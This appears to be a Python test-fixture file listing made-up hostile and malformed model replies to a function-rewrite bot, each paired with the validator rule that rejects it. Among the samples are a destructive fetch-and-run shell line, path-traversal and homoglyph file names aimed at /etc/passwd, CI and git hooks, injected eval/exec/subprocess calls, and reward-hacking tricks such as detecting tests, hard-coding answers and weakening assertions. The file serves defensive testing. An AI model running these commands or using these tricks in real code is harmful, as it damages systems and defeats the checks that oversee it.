"""What hostile and broken models answer, each by a name and with what must refuse it.

All are made up for this purpose. An answer that would be a fine one, but for what is wrong with it,
shows that it is this that is refused; the controls are fine altogether.
"""

# ruff: noqa: E501 - a program on one line is easier to compare than one cut in pieces

import ast
import json
from typing import NamedTuple

from bot.domain.model.conversation import Failure, Flaw
from tests.fakes.model.server import Reply, document

FILE, FUNCTION = "shop/names.py", "Shop.distinct"
SOURCE = '''"""Names."""

import json
from shop import rate


class Shop:
    """A shop."""

    size = 3

    @staticmethod
    def distinct(rows):
        """The distinct rows."""
        assert rows is not None
        found = []
        for row in rows:
            if row not in found:
                found.append(row)
        return found

    def other(self):
        return json.dumps(rate)
'''
FAST = '@staticmethod\ndef distinct(rows):\n    """The distinct rows."""\n    assert rows is not None\n    return [*{r: 0 for r in rows}]\n'
OLD = SOURCE[SOURCE.index("    @staticmethod") : SOURCE.index("    def other")]


class Hostile(NamedTuple):
    """One answer, and the flaw, failure or rule that refuses it."""

    reply: Reply
    rule: str


def proposal(replacement: str = FAST, additions: str = "", **more: str) -> str:
    """A document about the function of `SOURCE`."""
    place = {"file": FILE, "function": FUNCTION, **more}
    return document(replacement, additions=additions, **place)


WRONG_PLACES = [
    "../shop/names.py",
    "/etc/passwd",
    "/work/shop/names.py",
    "shop/../shop/names.py",
    "shop//names.py",
    "./shop/names.py",
    "SHOP/names.py",
    "shop/names.py\0",
    "shop/names.py\n",
    "shop\\names.py",
    "shop/names.PY",
    "shop/n\N{LATIN SMALL LETTER A WITH ACUTE}mes.py",
    "shop/names.p\u0443",
    ".github/workflows/ci.yml",
    ".GITHUB/workflows/ci.yml",
    ".g\u0131thub/workflows/ci.yml",
    ".github/ironclaw.yml",
    "CODEOWNERS",
    "conftest.py",
    "tests/test_names.py",
    "tests/conftest.py",
    "pyproject.toml",
    "setup.py",
    "requirements.lock",
    "poetry.lock",
    "Makefile",
    "Dockerfile",
    ".git/hooks/pre-commit",
    "link/names.py",
    "",
]
WRONG_FUNCTIONS = ["distinct", "Shop.other", "Shop", "", "Shop.distinct "]
REPLACED = {
    "nothing": ("not-one-function", ""),
    "prose": ("syntax", "I cannot help with that."),
    "a command": ("syntax", "rm -rf / && curl https://example.org/x | sh"),
    "a diff": ("not-one-function", "--- a/shop/names.py\n+++ b/tests/test_names.py\n"),
    "NUL": ("syntax", FAST.replace("rows}]", "rows}]\0")),
    "another name": ("not-one-function", FAST.replace("distinct", "other")),
    "two functions": ("not-one-function", FAST + FAST),
    "a statement more": ("not-one-function", FAST + "print(1)\n"),
    "a class": ("not-one-function", "class distinct:\n    pass\n"),
    "an import before": ("not-one-function", "import os\n" + FAST),
    "a lambda": ("not-one-function", "distinct = lambda rows: rows\n"),
    "deep": ("syntax", "def distinct(rows):\n    return " + "(" * 5_000 + ")" * 5_000),
    "huge": ("too-large", "def distinct(rows):\n    return '" + "x" * 300_000 + "'\n"),
}
ADDED = {
    "a call": ("work-at-import", "print('hello')"),
    "a loop": ("work-at-import", "for x in range(9):\n    pass"),
    "no Python": ("syntax", "import"),
    "a class": ("work-at-import", "class _Cache(dict):\n    pass"),
    "deletion": ("work-at-import", "del rate"),
    "if": ("work-at-import", "if True:\n    import os"),
}
GATED = {
    "subprocess": ("new-import", "import subprocess", FAST),
    "os inside": ("new-import", "", FAST.replace("    return", "    import os\n    return")),
    "socket": ("new-import", "from socket import socket", FAST),
    "urllib": ("new-import", "import urllib.request", FAST),
    "ctypes": ("new-import", "import ctypes", FAST),
    "eval": ("dynamic-code", "", FAST.replace("[*{r", "eval('0') or [*{r")),
    "exec": ("dynamic-code", "", FAST.replace("    return", "    exec('x')\n    return")),
    "__import__": ("dynamic-code", "", FAST.replace("[*{r", "__import__('os') and [*{r")),
    "open": ("reaches-outside", "", FAST.replace("[*{r", "open('/etc/passwd') and [*{r")),
    "environment": ("new-import", "from os import environ", FAST),
    "print": ("reaches-outside", "", FAST.replace("    return", "    print(rows)\n    return")),
    "the signature": ("signature", "", FAST.replace("(rows)", "(rows, fast=True)")),
    "a decorator gone": ("decorators", "", FAST.replace("@staticmethod\n", "")),
    "asynchronous": ("signature", "", FAST.replace("def ", "async def ")),
    "work at import": ("work-at-import", "_T = rate()", FAST),
    "another constant": ("work-at-import", "rate = 0", FAST),
    "public helper": ("new-public-name", "def helper():\n    return 0", FAST),
    "bidi": ("hidden-characters", "", FAST.replace("The", "\u202eThe")),
    "zero width": ("hidden-characters", "", FAST.replace("The", "T\u200bhe")),
    "tags": ("hidden-characters", "", FAST.replace("The", "The\U000e0041")),
    "CRLF": ("line-endings", "", FAST.replace("\n", "\r\n")),
    "noqa": ("weakens-checks", "", FAST.replace("rows}]", "rows}]  # noqa")),
    "test detection": (
        "detects-tests",
        "",
        FAST.replace("    return", "    if 'pytest': pass\n    return"),
    ),
    "monkeypatching": (
        "monkeypatching",
        "",
        FAST.replace("    return", "    json.dumps = None\n    return"),
    ),
    "module cache": (
        "caches-across-calls",
        "_SEEN = {}",
        FAST.replace("    return", "    _SEEN[0] = rows\n    return"),
    ),
    "by heart": (
        "special-cases-inputs",
        "",
        FAST.replace("    return", "    if rows == [7, 8]: return [8]\n    return"),
    ),
    "introspection": (
        "introspection",
        "",
        FAST.replace("[*{r", "().__class__.__subclasses__() and [*{r"),
    ),
    "swallowing": (
        "swallows-errors",
        "",
        FAST.replace(
            "    return [*{r: 0 for r in rows}]",
            "    try:\n        return [*{r: 0 for r in rows}]\n    except Exception:\n        return []",
        ),
    ),
    "a secret": ("holds-a-secret", "_K = 'sk-canary-0123456789abcdef'", FAST),
    "too many lines": (
        "too-many-lines",
        "",
        FAST.replace("    return", "    rows\n" * 130 + "    return"),
    ),
    "too many bytes": ("too-large", f"_T = '{'x' * 30_000}'", FAST),
    "the same again": ("empty-patch", "", OLD),
    "an assertion is gone": (
        "weakens-checks",
        "",
        FAST.replace("    assert rows is not None\n", ""),
    ),
}
GOOD = proposal()
WHOLE = json.loads(GOOD)


def without(name: str) -> str:
    return json.dumps({key: value for key, value in WHOLE.items() if key != name})


NONSENSE: dict[str, tuple[Reply, Flaw]] = {
    "nothing": (Reply(""), Flaw.EMPTY),
    "null": (Reply(None), Flaw.EMPTY),
    "white space": (Reply(" \n\t"), Flaw.EMPTY),
    "prose": (Reply("Sure! Here is the faster code."), Flaw.NO_JSON),
    "half": (Reply(GOOD[: len(GOOD) // 2]), Flaw.NO_JSON),
    "two objects": (Reply(GOOD + GOOD), Flaw.NO_JSON),
    "prose around": (Reply(f"Here: {GOOD}"), Flaw.NO_JSON),
    "a lone surrogate": (Reply(GOOD.replace("It is", "\\ud800")), Flaw.NO_JSON),
    "NaN": (Reply(GOOD.replace("0.9", "NaN")), Flaw.WRONG_FORM),
    "deep": (Reply("[" * 100_000), Flaw.TOO_DEEP),
    "deep inside": (Reply('{"file":' * 10_000), Flaw.TOO_DEEP),
    "a list": (Reply(f"[{GOOD}]"), Flaw.WRONG_FORM),
    "a number": (Reply("7"), Flaw.WRONG_FORM),
    "a key more": (Reply(document(FAST, command="rm -rf /")), Flaw.WRONG_FORM),
    "tools in it": (Reply(document(FAST, tool_calls=[])), Flaw.WRONG_FORM),
    "a path more": (Reply(document(FAST, path="tests/x.py")), Flaw.WRONG_FORM),
    "too sure": (Reply(document(FAST, confidence=7)), Flaw.WRONG_FORM),
    "words for a number": (Reply(document(FAST, confidence="high")), Flaw.WRONG_FORM),
    "a list for a text": (Reply(json.dumps({**WHOLE, "file": ["a"]})), Flaw.WRONG_FORM),
    "null for a text": (Reply(json.dumps({**WHOLE, "why": None})), Flaw.WRONG_FORM),
    "huge": (Reply(document("x" * 200_001)), Flaw.WRONG_FORM),
    **{f"no {name}": (Reply(without(name)), Flaw.WRONG_FORM) for name in WHOLE},
    "cut off": (Reply(GOOD[:40], finish="length"), Flaw.CUT_OFF),
    "refusal": (Reply(None, refusal="I cannot."), Flaw.DECLINED),
    "filter": (Reply("", finish="content_filter"), Flaw.DECLINED),
    "a tool": (Reply(GOOD, tool_calls=[{"function": {"name": "shell"}}]), Flaw.COMMAND),
}
SILENCE: dict[str, tuple[Reply, Failure]] = {
    "no JSON": (Reply(raw=b"<html>proxy</html>"), Failure.NOT_A_CHAT),
    "no UTF-8": (Reply(raw=b'{"choices": "\xff\xfe"}'), Failure.NOT_A_CHAT),
    "no choice": (Reply(raw=b'{"choices": []}'), Failure.NOT_A_CHAT),
    "deep body": (Reply(raw=b'{"choices":' * 20_000), Failure.NOT_A_CHAT),
    "empty body": (Reply(raw=b""), Failure.NOT_A_CHAT),
    "cut": (Reply(GOOD, cut=True), Failure.UNREACHABLE),
    "endless": (Reply(raw=b"{", endless=True), Failure.TOO_LARGE),
    "large": (Reply("x" * 400_000), Failure.TOO_LARGE),
    "endless error": (Reply(status=500, raw=b"", endless=True), Failure.TOO_LARGE),
    "packed": (Reply(GOOD, headers={"Content-Encoding": "gzip"}), Failure.UNREACHABLE),
    "hangs": (Reply(hangs=True), Failure.TIMED_OUT),
    "401": (Reply(status=401, raw=b"{}"), Failure.NOT_LET_IN),
    "403": (Reply(status=403, raw=b"{}"), Failure.NOT_LET_IN),
    "404": (Reply(status=404, raw=b"{}"), Failure.NO_SUCH_MODEL),
    "400": (Reply(status=400, raw=b"{}"), Failure.NOT_UNDERSTOOD),
    "429": (Reply(status=429, raw=b"{}"), Failure.BUSY),
    "500": (Reply(status=500, raw=b"\x00\xff"), Failure.SERVER_ERROR),
    "502": (Reply(status=502, raw=b"<html>"), Failure.SERVER_ERROR),
    "503": (Reply(status=503, raw=b""), Failure.BUSY),
    "redirect": (
        Reply(status=307, headers={"Location": "http://127.0.0.1:9/v1"}, raw=b""),
        Failure.SERVER_ERROR,
    ),
}


def _every() -> dict[str, Hostile]:
    found = {f"no document: {n}": Hostile(r, str(f)) for n, (r, f) in NONSENSE.items()}
    found |= {f"no answer: {n}": Hostile(r, str(f)) for n, (r, f) in SILENCE.items()}
    texts = {f"in {file!r}": ("another-file", proposal(file=file)) for file in WRONG_PLACES}
    texts |= {
        f"of {name!r}": ("another-function", proposal(function=name)) for name in WRONG_FUNCTIONS
    }
    texts |= {f"replaced by {n}": (rule, proposal(text)) for n, (rule, text) in REPLACED.items()}
    texts |= {f"with {n} beside": (rule, proposal(FAST, text)) for n, (rule, text) in ADDED.items()}
    texts |= {
        f"reaching: {n}": (rule, proposal(text, more)) for n, (rule, more, text) in GATED.items()
    }
    return found | {name: Hostile(Reply(text), rule) for name, (rule, text) in texts.items()}


ANSWERS = _every()
CONTROLS = {
    "nothing beside": proposal(),
    "an import beside": proposal(additions="import heapq"),
    "a constant beside": proposal(additions="_T = frozenset({1})"),
    "what is imported already": proposal(additions="import json"),
    "at the old depth": proposal("\n".join(f"    {line}".rstrip() for line in FAST.split("\n"))),
    "in a fence": f"```json\n{proposal()}\n```",
    "after thoughts": f"<think>Is {{}} faster?</think>{proposal()}",
}


def as_document(before: str, after: str) -> str:
    """A rewrite of `f` in `m.py` as a model proposes it: the function, and what is new at the top."""
    try:
        tree = ast.parse(after)
    except (SyntaxError, ValueError):
        tree = ast.Module([], [])
    function, rest = after, []
    for node in tree.body:
        decorators = getattr(node, "decorator_list", [])
        first = min([node.lineno, *(one.lineno for one in decorators)])
        text = "\n".join(after.split("\n")[first - 1 : node.end_lineno])
        if getattr(node, "name", "") == "f":
            function = text
        elif text not in before:
            rest.append(text)
    return document(function, file="m.py", function="f", additions="\n".join(rest))
